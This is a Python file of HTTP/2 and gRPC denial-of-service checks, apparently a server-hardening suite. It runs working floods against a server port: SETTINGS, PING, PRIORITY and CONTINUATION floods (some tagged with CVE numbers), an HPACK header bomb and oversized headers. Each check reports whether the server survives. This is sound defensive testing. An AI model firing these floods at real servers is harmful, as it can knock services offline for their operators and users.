"""Frames without use, and headers without measure."""

import struct

from attack_tools import EMPTY, INPUT, RESOURCE_EXHAUSTED, StaticBlock, flood
from wire import (
    CONTINUATION, DATA, END_STREAM, HEADERS, PADDED, PING, PRIORITY, Wire, frame, headers_frames, message, rst, settings, window_update,
)


def settings_flood(server):
    with Wire(server.port) as wire:
        return flood(wire, lambda: settings({3: 100}))


def settings_flood_unread(server):
    return unread_flood(server, settings({3: 100}))


def ping_flood(server):
    with Wire(server.port) as wire:
        return flood(wire, lambda: frame(PING, 0, 0, b"01234567"))


def ping_flood_unread(server):
    return unread_flood(server, frame(PING, 0, 0, b"01234567"))


def unread_flood(server, bad):
    """The answers are never read."""
    with Wire(server.port) as wire:
        wire.socket.settimeout(1)
        for _ in range(2000):
            if not wire.send(bad * 500):
                return True
        return False


def empty_data_flood(server):
    """CVE-2019-9518."""
    with Wire(server.port) as wire:
        stream = wire.open(INPUT)
        return flood(wire, lambda: frame(DATA, 0, stream))


def padding_flood(server):
    with Wire(server.port) as wire:
        stream = wire.open(INPUT)
        return flood(wire, lambda: frame(DATA, PADDED, stream, b"\xff" + bytes(255)), rounds=100, batch=100)


def unknown_frames(server):
    with Wire(server.port) as wire:
        return flood(wire, lambda: frame(0xFA, 0, 0, b"xxxx"))


def priority_flood(server):
    """CVE-2019-9513."""
    with Wire(server.port) as wire:
        numbers = iter(range(1, 1 << 30, 2))
        return flood(wire, lambda: frame(PRIORITY, 0, next(numbers), struct.pack(">IB", 0, 16)))


def window_update_flood(server):
    with Wire(server.port) as wire:
        return flood(wire, lambda: window_update(0, 1))


def empty_message_flood(server):
    """Messages of nothing: legal, so the stream may go on; the server must just live."""
    with Wire(server.port) as wire:
        stream = wire.open(INPUT)
        for _ in range(100):
            wire.send(frame(DATA, 0, stream, message() * 2000))
            wire.pump(timeout=0.001)
        return True


def reset_of_closed_streams(server):
    with Wire(server.port) as wire:
        wire.call(EMPTY)
        return flood(wire, lambda: rst(1))


def continuation_flood(server):
    """CVE-2024-28182."""
    with Wire(server.port) as wire:
        wire.send(frame(HEADERS, 0, 1, b"\x00\x01a\x01b"))
        return flood(wire, lambda: frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 10), batch=10)


def hpack_bomb(server):
    """One large entry of the dynamic table, referred to again and again."""
    with Wire(server.port) as wire:
        base = StaticBlock(wire, EMPTY).block
        entry = b"\x40\x01x" + b"\x7f" + b"\x91\x1e" + b"v" * 4000
        wire.streams[1] = wire.streams.get(1)
        wire.next_stream = 1
        first = wire.new_stream()
        wire.send(headers_frames(first, base + entry, END_STREAM))
        for _ in range(50):
            stream = wire.new_stream()
            if not wire.send(headers_frames(stream, base + b"\xbe" * 16000, END_STREAM)):
                return True
            wire.pump(lambda: wire.closed or wire.streams[stream].over, 1)
            if wire.closed or wire.goaways:
                return True
        return False


def large_headers(server):
    """Every call with 60 KB of metadata."""
    with Wire(server.port) as wire:
        request = StaticBlock(wire, EMPTY, extra=[("x-large", "v" * 60_000)])
        for _ in range(200):
            stream, frames = request(wire, end=True)
            if not wire.send(frames):
                return True
            wire.pump(lambda: wire.closed or wire.streams[stream].over, 1)
            if wire.closed or wire.goaways:
                return True
            answer = wire.streams[stream]
            if answer.grpc_status != RESOURCE_EXHAUSTED and answer.http_status != "431" and answer.reset is None:
                return False
        return True


def many_headers(server):
    with Wire(server.port) as wire:
        stream = wire.call(EMPTY, extra=[(f"x{n}", "") for n in range(5000)], timeout=3)
        return wire.closed or bool(wire.goaways) or stream.grpc_status == RESOURCE_EXHAUSTED or stream.http_status == "431" or stream.reset is not None
